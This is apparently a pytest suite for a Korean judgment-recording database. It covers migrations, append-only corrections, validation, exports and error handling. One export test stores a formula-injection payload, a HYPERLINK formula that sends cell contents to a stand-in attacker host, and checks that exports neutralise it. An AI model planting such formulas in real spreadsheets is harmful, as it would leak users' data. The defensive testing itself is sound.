"""Judgment store tests, each run against SQLite (temp file) and PostgreSQL (throw-away database)."""
from __future__ import annotations

import dataclasses
import io
import logging
import os
import sqlite3
import threading
import uuid
from collections.abc import Callable, Iterator
from concurrent.futures import ThreadPoolExecutor
from datetime import date, datetime, timedelta, timezone
from pathlib import Path
from typing import Any

import openpyxl
import pandas as pd
import psycopg
import pytest
from alembic import command
from alembic.autogenerate import compare_metadata
from alembic.runtime.migration import MigrationContext
from sqlalchemy import create_engine, event, inspect, text
from sqlalchemy import exc as sa_exc
from sqlalchemy.engine import make_url

from workbench.store import JudgmentStore, NewJudgment, StoreError, export_csv, export_xlsx, to_dataframe
from workbench.store.db import alembic_config, head_revision
from workbench.store.errors import classify
from workbench.store.export import COLUMNS_KO, SHEET_NAME
from workbench.store.models import Base

PG_URL = os.environ.get("WORKBENCH_TEST_PG_URL", "postgresql+psycopg://postgres@127.0.0.1:5432/test")
REG_NO = "1234567890"
CEO = "홍길동"
WRITERS, SAVES_PER_WRITER = 8, 50

RECOMMENDATIONS = [
    {
        "rank": 1,
        "item_code": "A01010",
        "item_name": "스마트팜 재배 시스템",
        "field": "농림수산",
        "theme": "스마트농업",
        "confidence": 0.8125,
        "rationale": "주요제품 '수직농장 LED'와 기술과제가 일치",
        "keywords": ["수직농장", "LED", "환경제어"],
    },
    {"rank": 2, "item_code": "B02020", "item_name": "식물공장", "confidence": 0.41, "keywords": []},
    {"rank": 3, "item_code": "C03030", "item_name": "농업용 센서", "confidence": 0.12, "extra": {"중첩": [1, 2.5, None]}},
]


def judgment(**overrides: Any) -> NewJudgment:
    """A valid 'accept rank 1' judgment with Korean text; ``overrides`` replace fields."""
    values: dict[str, Any] = {
        "examiner": "김심사",
        "idempotency_key": uuid.uuid4().hex,
        "company_name": "(주)그린팜바이오",
        "business_reg_no": "123-45-67890",
        "ceo_name": CEO,
        "base_date": date(2024, 6, 30),
        "ksic_code": "01110",
        "industry_name": "작물 재배업",
        "main_product": "수직농장 LED 재배 모듈",
        "product_use": "도심형 실내 농업",
        "tech_project": "AI 기반 생육 환경 제어",
        "nst_code": "LA0101",
        "recommendations": RECOMMENDATIONS,
        "review_flag": True,
        "warnings": ["업종코드와 제품 설명이 일부 불일치"],
        "decision_type": "accept",
        "accepted_rank": 1,
        "final_item_code": "A01010",
        "final_item_name": "스마트팜 재배 시스템",
        "comment": "추천 1순위 채택 — 근거 충분",
        "taxonomy_revision": "6",
        "model_id": "head-logreg",
        "encoder_id": "multilingual-e5-small",
        "model_version": "2024.11.1",
        "app_version": "0.1.0",
    }
    values.update(overrides)
    return NewJudgment(**values)


def other(**overrides: Any) -> NewJudgment:
    return judgment(**{"decision_type": "other", "accepted_rank": None, "final_item_code": "Z99999",
                       "final_item_name": "기타 품목", **overrides})


# --------------------------------------------------------------------------- fixtures


def _unreachable(reason: str) -> None:
    if os.environ.get("CI") == "true":
        pytest.fail(f"PostgreSQL is required in CI: {reason}")
    pytest.skip(f"PostgreSQL not reachable at {PG_URL}: {reason}")


@pytest.fixture(scope="session")
def pg_url() -> Iterator[str]:
    """A fresh uniquely named PostgreSQL database for this test session, dropped at the end."""
    name = f"workbench_store_test_{uuid.uuid4().hex[:12]}"
    admin = create_engine(PG_URL, isolation_level="AUTOCOMMIT", connect_args={"connect_timeout": 3})
    try:
        with admin.connect() as conn:
            conn.execute(text(f'CREATE DATABASE "{name}"'))
    except sa_exc.OperationalError as exc:
        admin.dispose()
        _unreachable(str(exc.orig).strip().splitlines()[0])
    try:
        yield make_url(PG_URL).set(database=name).render_as_string(hide_password=False)
    finally:
        with admin.connect() as conn:
            conn.execute(text(f'DROP DATABASE IF EXISTS "{name}" WITH (FORCE)'))
        admin.dispose()


@pytest.fixture(params=["sqlite", "postgresql"])
def backend(request: pytest.FixtureRequest) -> str:
    return request.param


@pytest.fixture
def db_url(backend: str, request: pytest.FixtureRequest, tmp_path: Path) -> str:
    """URL of an empty database (no tables) on the current backend."""
    if backend == "sqlite":
        return f"sqlite:///{tmp_path / 'store' / 'judgments.sqlite3'}"
    url: str = request.getfixturevalue("pg_url")
    engine = create_engine(url)
    with engine.begin() as conn:
        conn.execute(text("DROP TABLE IF EXISTS judgments, export_log, alembic_version CASCADE"))
    engine.dispose()
    return url


@pytest.fixture
def open_store() -> Iterator[Callable[[str], JudgmentStore]]:
    """Factory opening stores that are all closed after the test."""
    stores: list[JudgmentStore] = []

    def factory(url: str) -> JudgmentStore:
        store = JudgmentStore(url)
        stores.append(store)
        return store

    yield factory
    for store in stores:
        store.close()


@pytest.fixture
def store(db_url: str, open_store: Callable[[str], JudgmentStore]) -> JudgmentStore:
    return open_store(db_url)


# --------------------------------------------------------------------------- schema & migrations


def test_migrations_create_schema(db_url: str, open_store: Callable[[str], JudgmentStore]) -> None:
    store = open_store(db_url)
    schema = inspect(store.engine)
    assert {"judgments", "export_log", "alembic_version"} <= set(schema.get_table_names())
    columns = {c["name"] for c in schema.get_columns("judgments")}
    assert {"id", "created_at", "examiner", "idempotency_key", "supersedes_id", "business_reg_no",
            "recommendations", "decision_type", "final_item_code", "app_version"} <= columns
    unique = {tuple(u["column_names"]) for u in schema.get_unique_constraints("judgments")}
    assert {("idempotency_key",), ("supersedes_id",)} <= unique
    checks = {c["name"] for c in schema.get_check_constraints("judgments")}
    assert checks == {f"ck_judgments_{name}" for name in ("decision_type", "accepted_rank", "final_item_code",
                                                           "business_reg_no")}

    open_store(db_url)  # upgrade again on open: no-op
    command.upgrade(alembic_config(db_url), "head")  # CLI-style run without a handed-over connection
    with store.engine.connect() as conn:
        assert MigrationContext.configure(conn).get_current_revision() == head_revision()
        assert compare_metadata(MigrationContext.configure(conn), Base.metadata) == []

    config = alembic_config()
    config.stdout = io.StringIO()
    command.history(config)
    assert "<base> -> 0001" in config.stdout.getvalue() and "0001 -> 0002" in config.stdout.getvalue()
    assert "0002 -> 0003" in config.stdout.getvalue()


# --------------------------------------------------------------------------- save / read


def test_save_get_round_trip(store: JudgmentStore, caplog: pytest.LogCaptureFixture) -> None:
    caplog.set_level(logging.DEBUG)
    new = judgment()
    before = datetime.now(timezone.utc)
    result = store.save(new)
    assert result.created

    row = store.get(result.id)
    assert row is not None
    for f in dataclasses.fields(NewJudgment):
        assert getattr(row, f.name) == getattr(new, f.name), f.name
    assert row.business_reg_no == REG_NO
    assert row.recommendations[2]["extra"] == {"중첩": [1, 2.5, None]}
    assert list(row.recommendations[0]) == list(RECOMMENDATIONS[0])  # stored as given, key order included
    assert row.created_at.tzinfo is not None and row.created_at.utcoffset() == timedelta(0)
    assert abs(row.created_at - before) < timedelta(minutes=1)
    assert row.supersedes_id is None and row.superseded_by_id is None
    assert store.get(result.id + 1000) is None
    for text_ in (caplog.text, repr(new), repr(row)):
        assert REG_NO not in text_ and CEO not in text_


def test_none_decision_round_trip(store: JudgmentStore) -> None:
    new = judgment(decision_type="none", accepted_rank=None, final_item_code=None, final_item_name=None,
                   recommendations=[], warnings=[], comment=None, ksic_code=None)
    row = store.get(store.save(new).id)
    assert row is not None
    assert (row.decision_type, row.final_item_code, row.recommendations, row.ksic_code) == ("none", None, [], None)


def test_idempotent_double_save(store: JudgmentStore) -> None:
    new = judgment()
    first, second = store.save(new), store.save(new)
    assert first.created and not second.created
    assert first.id == second.id
    assert store.save(dataclasses.replace(new, comment="다른 내용")).id == first.id  # key wins
    assert len(store.list()) == 1


def test_idempotent_save_race(db_url: str, open_store: Callable[[str], JudgmentStore]) -> None:
    open_store(db_url)
    stores = [open_store(db_url) for _ in range(WRITERS)]
    new = judgment()
    barrier = threading.Barrier(WRITERS)

    def save(store: JudgmentStore) -> tuple[int, bool]:
        barrier.wait()
        result = store.save(new)
        return result.id, result.created

    with ThreadPoolExecutor(WRITERS) as pool:
        results = list(pool.map(save, stores))
    assert len({rid for rid, _ in results}) == 1
    assert sum(created for _, created in results) == 1
    assert len(stores[0].list()) == 1


# --------------------------------------------------------------------------- corrections


def test_correction_chain(store: JudgmentStore) -> None:
    original = judgment()
    original_id = store.save(original).id
    neighbour_id = store.save(judgment(business_reg_no="2223334445", company_name="이웃상사")).id

    fix = other(comment="정정: 다른 품목이 적합")
    fixed = store.correct(original_id, fix)
    assert fixed.created
    assert store.correct(original_id, fix) == dataclasses.replace(fixed, created=False)  # idempotent too

    old, new = store.get(original_id), store.get(fixed.id)
    assert old is not None and new is not None
    assert old.decision_type == "accept" and old.final_item_code == "A01010" and old.comment == original.comment
    assert old.superseded_by_id == fixed.id
    assert new.supersedes_id == original_id and new.superseded_by_id is None

    latest = {row.business_reg_no: row.id for row in store.latest_per_company()}
    assert latest == {REG_NO: fixed.id, "2223334445": neighbour_id}

    with pytest.raises(ValueError, match="already corrected"):
        store.correct(original_id, other())
    with pytest.raises(LookupError):
        store.correct(987654, other())

    second = store.correct(fixed.id, judgment(comment="재정정: 1순위가 맞음"))
    assert {row.business_reg_no: row.id for row in store.latest_per_company()}[REG_NO] == second.id
    assert [row.id for row in store.list(include_superseded=False)] == [second.id, neighbour_id]
    assert len(store.list()) == 4


def test_database_refuses_update_and_delete(store: JudgmentStore) -> None:
    row_id = store.save(judgment()).id
    for statement in ("UPDATE judgments SET final_item_code = 'Z99999' WHERE id = :id",
                      "DELETE FROM judgments WHERE id = :id"):
        with pytest.raises(sa_exc.DBAPIError, match="append-only"), store.engine.begin() as conn:
            conn.execute(text(statement), {"id": row_id})
    if store.engine.dialect.name == "postgresql":
        with pytest.raises(sa_exc.DBAPIError, match="append-only"), store.engine.begin() as conn:
            conn.execute(text("TRUNCATE judgments"))
    row = store.get(row_id)
    assert row is not None and row.final_item_code == "A01010"
    fixed = store.correct(row_id, other())  # a correction is still a new row
    assert fixed.created and store.get(row_id).superseded_by_id == fixed.id


def test_export_log_records_and_is_append_only(store: JudgmentStore) -> None:
    filters = {"date_from": "2026-12-01", "company": "바이오", "examiner": None}
    first = store.record_export("kim", "admin", "xlsx", filters, 12)
    second = store.record_export(None, "admin", "csv", {}, 0)  # login off: nobody to name
    entries = store.exports()
    assert [e.id for e in entries] == [second, first]  # newest first
    assert (entries[1].exported_by, entries[1].role, entries[1].file_format, entries[1].filters,
            entries[1].row_count) == ("kim", "admin", "xlsx", filters, 12)
    assert entries[1].created_at.tzinfo is not None and entries[0].exported_by is None
    assert [e.id for e in store.exports(limit=1)] == [second]
    for statement in ("UPDATE export_log SET exported_by = 'park' WHERE id = :id",
                      "DELETE FROM export_log WHERE id = :id"):
        with pytest.raises(sa_exc.DBAPIError, match="append-only"), store.engine.begin() as conn:
            conn.execute(text(statement), {"id": first})
    if store.engine.dialect.name == "postgresql":
        with pytest.raises(sa_exc.DBAPIError, match="append-only"), store.engine.begin() as conn:
            conn.execute(text("TRUNCATE export_log"))
    with pytest.raises(StoreError):  # a format the table refuses
        store.record_export("kim", "admin", "pdf", {}, 1)
    assert len(store.exports()) == 2


def test_list_by_examiner(store: JudgmentStore) -> None:
    own = store.save(judgment(examiner="kim")).id
    store.save(judgment(examiner="kim2"))  # a prefix is not a match
    assert [r.id for r in store.list(examiner="kim")] == [own] and len(store.list()) == 2


def test_correction_must_concern_the_same_company(store: JudgmentStore) -> None:
    original_id = store.save(judgment()).id
    with pytest.raises(ValueError, match="another company"):
        store.correct(original_id, other(business_reg_no="2223334445", company_name="이웃상사"))
    assert store.get(original_id).superseded_by_id is None and len(store.list()) == 1


@pytest.mark.parametrize("url", ["postgres://user:secret@127.0.0.1/db", "postgresql+pg8000://u@127.0.0.1/db",
                                 "no url at all"])
def test_misconfigured_url_is_a_clear_store_error(url: str, monkeypatch: pytest.MonkeyPatch,
                                                  capsys: pytest.CaptureFixture[str]) -> None:
    with pytest.raises(StoreError) as info:
        JudgmentStore(url)
    assert info.value.kind == "config" and "postgresql+psycopg://" in info.value.message_ko
    assert "secret" not in str(info.value)  # a password in the URL is never echoed
    from workbench import cli
    from workbench.ui import create_app

    monkeypatch.setenv("WORKBENCH_DB_URL", url)
    monkeypatch.setattr("sys.argv", ["workbench", "report", "agreement"])
    with pytest.raises(SystemExit) as exit_info:
        cli.main()
    assert exit_info.value.code == 2 and "WORKBENCH_DB_URL" in capsys.readouterr().err
    app = create_app(recommender=lambda: None, store_url=url)
    assert app.store_alert.visible and "WORKBENCH_DB_URL" in app.store_alert.object


def test_database_of_a_newer_version_is_refused_clearly(db_url: str, open_store) -> None:
    store = open_store(db_url)
    with store.engine.begin() as conn:
        conn.execute(text("UPDATE alembic_version SET version_num = '9999'"))
    with pytest.raises(StoreError) as info:
        JudgmentStore(db_url)
    assert info.value.kind == "newer_schema" and "최신 버전" in info.value.message_ko


def test_nul_rejected_by_postgresql_is_not_a_retry_later(db_url: str, open_store, backend: str) -> None:
    if backend != "postgresql":
        pytest.skip("SQLite stores NUL")
    store = open_store(db_url)
    with pytest.raises(StoreError) as info:
        store.save(judgment(comment="널\x00문자"))
    assert info.value.kind == "invalid_data" and "다시 시도해도" in info.value.message_ko


# --------------------------------------------------------------------------- filters


def test_list_filters(store: JudgmentStore) -> None:
    ids = [
        store.save(judgment(company_name="(주)그린팜바이오")).id,
        store.save(other(company_name="한빛바이오텍", business_reg_no="5556667778")).id,
        store.save(judgment(company_name="대한정밀", business_reg_no="9990001112", decision_type="none",
                            accepted_rank=None, final_item_code=None, final_item_name=None)).id,
        store.save(judgment(company_name="50%할인마트", business_reg_no="1112223334")).id,
    ]

    def listed(**kwargs: Any) -> list[int]:
        return [row.id for row in store.list(**kwargs)]

    assert listed() == ids[::-1]  # newest first
    assert listed(limit=2) == ids[:1:-1]
    assert listed(company="바이오") == [ids[1], ids[0]]
    assert listed(company="000111") == [ids[2]]
    assert listed(company="%") == [ids[3]]  # LIKE wildcards are literal
    assert listed(item_code="A01010") == [ids[3], ids[0]]
    assert listed(decision_type="none") == [ids[2]]
    assert listed(decision_type="other", company="한빛") == [ids[1]]

    today = datetime.now(timezone.utc).date()
    assert listed(date_from=today, date_to=today) == ids[::-1]
    assert listed(date_from=today + timedelta(days=1)) == []
    assert listed(date_to=today - timedelta(days=1)) == []
    created = store.get(ids[2])
    assert created is not None
    assert ids[2] in listed(date_from=created.created_at, date_to=created.created_at)
    assert listed(date_to=created.created_at - timedelta(days=1)) == []
    with pytest.raises(ValueError):
        store.list(decision_type="approve")


# --------------------------------------------------------------------------- validation

INVALID: list[tuple[dict[str, Any], str]] = [
    ({"decision_type": "maybe"}, "decision_type"),
    ({"accepted_rank": None}, "accepted_rank"),
    ({"accepted_rank": 4}, "accepted_rank"),
    ({"accepted_rank": True}, "accepted_rank"),
    ({"accepted_rank": 2, "recommendations": RECOMMENDATIONS[:1]}, "not among"),
    ({"final_item_code": "B02020"}, "differs"),
    ({"final_item_code": None}, "final_item_code"),
    ({"decision_type": "other", "accepted_rank": 1, "final_item_code": "Z1"}, "'other' takes no"),
    ({"decision_type": "other", "accepted_rank": None, "final_item_code": " "}, "final_item_code"),
    ({"decision_type": "none", "accepted_rank": None}, "'none'"),
    ({"decision_type": "none", "accepted_rank": 1, "final_item_code": None}, "'none'"),
    ({"business_reg_no": "12345"}, "10 digits"),
    ({"business_reg_no": "12345abcde"}, "10 digits"),
    ({"base_date": "2024-06-30"}, "base_date"),
    ({"base_date": datetime(2024, 6, 30)}, "base_date"),
    ({"recommendations": RECOMMENDATIONS + [{"rank": 4}]}, "at most 3"),
    ({"recommendations": [{"rank": 1, "item_code": "A01010", "confidence": object()}]}, "JSON"),
    ({"recommendations": "A01010"}, "list of dicts"),
    ({"warnings": "경고"}, "warnings"),
    ({"examiner": "  "}, "examiner"),
    ({"ksic_code": "1" * 21}, "ksic_code"),
]


@pytest.mark.parametrize(("overrides", "message"), INVALID, ids=[m for _, m in INVALID])
def test_decision_validation(overrides: dict[str, Any], message: str) -> None:
    with pytest.raises(ValueError, match=message) as info:
        judgment(**overrides)
    assert REG_NO not in str(info.value)


def test_invalid_judgment_never_reaches_database(store: JudgmentStore) -> None:
    for overrides, _ in INVALID:
        with pytest.raises(ValueError):
            store.save(judgment(**overrides))
    assert store.list() == []


# --------------------------------------------------------------------------- export


def test_export_round_trip(store: JudgmentStore, tmp_path: Path) -> None:
    store.save(judgment())
    store.save(other(company_name="한빛바이오텍", business_reg_no="0556667778", comment="쉼표, \"따옴표\"\n줄바꿈"))
    rows = store.list()

    csv_path = tmp_path / "판정.csv"
    export_csv(rows, csv_path)
    assert csv_path.read_bytes().startswith(b"\xef\xbb\xbf")
    text_buffer = io.StringIO()
    export_csv(rows, text_buffer)
    assert text_buffer.getvalue().startswith("\ufeff번호,")
    byte_buffer = io.BytesIO()
    export_csv(rows, byte_buffer)
    assert byte_buffer.getvalue() == csv_path.read_bytes()

    xlsx_path = tmp_path / "판정.xlsx"
    export_xlsx(rows, xlsx_path)
    assert openpyxl.load_workbook(xlsx_path).sheetnames == [SHEET_NAME]

    for frame in (pd.read_csv(csv_path, encoding="utf-8-sig", dtype=str, keep_default_na=False),
                  pd.read_excel(xlsx_path, dtype=str, keep_default_na=False)):
        assert list(frame.columns) == COLUMNS_KO
        assert frame["기업명"].tolist() == ["한빛바이오텍", "(주)그린팜바이오"]
        assert frame["사업자등록번호"].tolist() == ["055-66-67778", "123-45-67890"]
        assert frame["판정"].tolist() == ["다른 품목 선택", "추천 채택"]
        assert frame["추천1 품목명"].tolist() == ["스마트팜 재배 시스템"] * 2
        assert frame["의견"].tolist()[0] == "쉼표, \"따옴표\"\n줄바꿈"
        assert frame["채택 순위"].tolist() == ["", "1"]

    assert list(to_dataframe([]).columns) == COLUMNS_KO


def test_exports_never_write_a_live_formula_or_crash_on_control_characters(tmp_path: Path) -> None:
    # stored before input was checked (or by another client): the export must still be safe and succeed
    store = JudgmentStore(f"sqlite:///{tmp_path / 'j.sqlite3'}")
    hostile = '=HYPERLINK("http://evil.example/?"&F2,"y")'
    store.save(judgment(company_name=hostile, ceo_name="@SUM(1)", comment="-2+3\x0b끝\x1a"))
    rows = store.list()
    csv_path, xlsx_path = tmp_path / "h.csv", tmp_path / "h.xlsx"
    export_csv(rows, csv_path)
    export_xlsx(rows, xlsx_path)  # IllegalCharacterError before the fix
    for frame in (pd.read_csv(csv_path, encoding="utf-8-sig", dtype=str, keep_default_na=False),
                  pd.read_excel(xlsx_path, dtype=str, keep_default_na=False)):
        assert frame["기업명"].tolist() == ["'" + hostile]
        assert frame["대표자명"].tolist() == ["'@SUM(1)"] and frame["의견"].tolist() == ["'-2+3끝"]
    sheet = openpyxl.load_workbook(xlsx_path).active
    header = [c.value for c in sheet[1]]
    assert sheet.cell(2, header.index("기업명") + 1).data_type == "s"  # text, not a formula
    assert isinstance(sheet.cell(2, header.index("번호") + 1).value, int)  # numbers stay numbers
    store.close()


# --------------------------------------------------------------------------- errors


def test_unreachable_database_raises_store_error(backend: str, tmp_path: Path) -> None:
    if backend == "sqlite":
        blocker = tmp_path / "not-a-directory"
        blocker.write_text("x")
        url = f"sqlite:///{blocker / 'judgments.sqlite3'}"
    else:
        url = "postgresql+psycopg://postgres@127.0.0.1:1/x"
    with pytest.raises(StoreError) as info:
        JudgmentStore(url)
    assert info.value.kind == "unavailable"
    assert info.value.message_ko.startswith("데이터베이스에 연결할 수 없습니다")


def test_connections_wait_a_bounded_time(monkeypatch: pytest.MonkeyPatch, tmp_path: Path) -> None:
    """A server that never answers fails after PG_CONNECT_TIMEOUT_S (libpq's default waits forever), a locked
    SQLite file after SQLITE_BUSY_TIMEOUT_S; a timeout in the URL wins. (Checked on the engine's settings
    instead of timing a connection: no assertion on wall-clock time.)"""
    from workbench.store import db

    seen: list[dict[str, Any] | None] = []
    real = db.create_engine

    def spy(url: Any, **options: Any) -> Any:
        seen.append(options.get("connect_args"))
        return real(url, **options)

    monkeypatch.setattr(db, "create_engine", spy)
    pg = "postgresql+psycopg://nobody@192.0.2.1:5432/x"  # TEST-NET-1: packets go unanswered
    for url in (pg, pg + "?connect_timeout=2", f"sqlite:///{tmp_path / 'a.sqlite3'}",
                f"sqlite:///{tmp_path / 'b.sqlite3'}?timeout=0.2"):
        db.make_engine(url).dispose()
    assert seen == [{"connect_timeout": db.PG_CONNECT_TIMEOUT_S}, None, {"timeout": db.SQLITE_BUSY_TIMEOUT_S}, {}]
    assert 0 < db.PG_CONNECT_TIMEOUT_S <= 10 and 0 < db.SQLITE_BUSY_TIMEOUT_S <= 60


def test_read_only_database_raises_store_error(
    db_url: str, backend: str, open_store: Callable[[str], JudgmentStore], caplog: pytest.LogCaptureFixture
) -> None:
    writer = open_store(db_url)
    writer.save(judgment())
    writer.close()
    if backend == "sqlite":
        path = Path(make_url(db_url).database or "")
        path.chmod(0o444)
        read_only_url = f"sqlite:///file:{path}?mode=ro&uri=true"  # also read-only for root
    else:
        read_only_url = make_url(db_url).update_query_dict(
            {"options": "-c default_transaction_read_only=on"}
        ).render_as_string(hide_password=False)
    read_only = open_store(read_only_url)
    assert len(read_only.list()) == 1
    with pytest.raises(StoreError) as info:
        read_only.save(judgment())
    assert info.value.kind == "read_only"
    assert "읽기 전용" in info.value.message_ko
    for leaked in (REG_NO, CEO):
        assert leaked not in caplog.text and leaked not in str(info.value) and leaked not in str(info.value.__cause__)


def test_locked_save_rolls_back_and_can_be_retried(
    db_url: str, backend: str, open_store: Callable[[str], JudgmentStore]
) -> None:
    store = open_store(db_url)
    url = make_url(db_url)
    if backend == "sqlite":
        impatient = open_store(url.update_query_dict({"timeout": "0.2"}).render_as_string())
        holder: Any = sqlite3.connect(url.database or "", isolation_level=None)
        holder.execute("BEGIN IMMEDIATE")
    else:
        impatient = open_store(url.update_query_dict({"options": "-c lock_timeout=200"})
                               .render_as_string(hide_password=False))
        holder = psycopg.connect(url.set(drivername="postgresql").render_as_string(hide_password=False))
        holder.execute("LOCK TABLE judgments IN EXCLUSIVE MODE")
    new = judgment()
    try:
        with pytest.raises(StoreError) as info:
            impatient.save(new)
        assert info.value.kind == "locked"
        assert info.value.message_ko.startswith("데이터베이스가 잠겨 있습니다")
    finally:
        holder.close()  # ends its transaction with a rollback, releasing the lock
    assert store.list() == []
    assert impatient.save(new).created
    assert len(store.list()) == 1


def test_disk_full_raises_store_error(tmp_path: Path, open_store: Callable[[str], JudgmentStore]) -> None:
    store = open_store(f"sqlite:///{tmp_path / 'full.sqlite3'}")
    store.save(judgment())
    store.engine.dispose()

    @event.listens_for(store.engine, "connect")
    def cap_size(dbapi_connection: Any, _record: Any) -> None:
        pages = dbapi_connection.execute("PRAGMA page_count").fetchone()[0]
        dbapi_connection.execute(f"PRAGMA max_page_count={pages}")

    with pytest.raises(StoreError) as info:
        store.save(judgment(comment="가" * 200_000))
    assert info.value.kind == "disk_full"
    assert info.value.message_ko.startswith("디스크 공간이 부족합니다")
    assert len(store.list()) == 1


@pytest.mark.parametrize(
    ("error", "kind"),
    [
        (psycopg.errors.DiskFull("could not extend file"), "disk_full"),
        (psycopg.errors.LockNotAvailable("lock timeout"), "locked"),
        (psycopg.errors.AdminShutdown("terminating connection"), "unavailable"),
        (psycopg.errors.ConnectionFailure("connection failure"), "unavailable"),
        (psycopg.errors.ReadOnlySqlTransaction("read-only"), "read_only"),
        (psycopg.errors.SyntaxError("syntax"), "generic"),
        (PermissionError("denied"), "unavailable"),
    ],
)
def test_error_classification(error: Exception, kind: str) -> None:
    wrapped = error if isinstance(error, OSError) else sa_exc.OperationalError("INSERT", {}, error)
    assert classify(wrapped) == kind


# --------------------------------------------------------------------------- concurrency


def test_concurrent_writers(db_url: str, open_store: Callable[[str], JudgmentStore]) -> None:
    barrier = threading.Barrier(WRITERS)

    def writer(number: int) -> list[int]:
        barrier.wait()
        store = open_store(db_url)  # concurrent opens also race the migration
        return [
            store.save(judgment(idempotency_key=f"w{number}-{i}", company_name=f"동시기업{number}",
                                business_reg_no=f"{number:02d}{i:08d}")).id
            for i in range(SAVES_PER_WRITER)
        ]

    with ThreadPoolExecutor(WRITERS) as pool:
        ids = [rid for chunk in pool.map(writer, range(WRITERS)) for rid in chunk]
    rows = open_store(db_url).list()
    assert len(ids) == len(set(ids)) == len(rows) == WRITERS * SAVES_PER_WRITER
    expected_keys = {f"w{n}-{i}" for n in range(WRITERS) for i in range(SAVES_PER_WRITER)}
    assert {row.idempotency_key for row in rows} == expected_keys
